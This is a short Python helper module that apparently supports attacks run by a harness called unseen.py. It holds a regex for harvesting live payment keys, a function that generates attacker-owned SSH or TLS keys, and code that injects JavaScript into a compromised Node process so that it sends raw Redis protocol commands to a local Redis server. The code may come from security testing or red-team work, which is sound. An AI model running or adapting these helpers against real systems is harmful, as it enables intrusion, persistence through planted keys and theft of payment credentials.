"""What several of the attacks of unseen.py need."""
import json
import os
import re
import subprocess

KEY = re.compile(rb"PAYMENT_KEY=sk_live_\d+")


def own_key(kind, name):
    """A key of the attacker's own: of SSH, or of TLS with a certificate."""
    for path in (name, name + ".pub"):
        if os.path.exists(path):
            os.remove(path)
    command = (["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", name] if kind == "ssh" else
               ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=cdn", "-keyout", name, "-out", name + ".pub"])
    subprocess.run(command, check=True, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return name


def words(*parts):
    """A command of Redis' in its protocol, as JavaScript may hold it."""
    return json.dumps("*%d\r\n" % len(parts) + "".join("$%d\r\n%s\r\n" % (len(part), part) for part in parts))


def tell_redis(enemy, *commands):
    """By way of the Node process, which knows Redis."""
    text = "+".join(words(*command) for command in commands)
    enemy.javascript(f"(() => {{ const s = net.connect(6379, '127.0.0.1'); s.end({text}); return 1; }})()")
